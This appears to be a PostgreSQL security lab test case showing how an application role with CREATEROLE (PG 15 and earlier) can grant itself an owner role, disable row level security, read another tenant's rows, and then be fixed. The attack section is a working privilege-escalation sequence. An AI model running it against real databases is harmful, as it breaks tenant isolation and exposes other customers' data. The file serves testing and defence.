-- app role has CREATEROLE (PG<=15: can grant itself any non-superuser role)

--- setup
ALTER ROLE rls_app CREATEROLE;

--- attack
--- as rls_app
SET app.tenant_id='1';
SELECT lab.x('GRANT rls_owner TO rls_app'); SET ROLE rls_owner; SELECT lab.x('ALTER TABLE app.project DISABLE ROW LEVEL SECURITY');
SELECT lab.v(lab.n('select 1 from app.project where tenant_id=2')>0, 'rows of tenant 2 visible: '||lab.n('select 1 from app.project where tenant_id=2'));

--- fix
ALTER ROLE rls_app NOCREATEROLE; REVOKE rls_owner FROM rls_app; ALTER TABLE app.project ENABLE ROW LEVEL SECURITY;
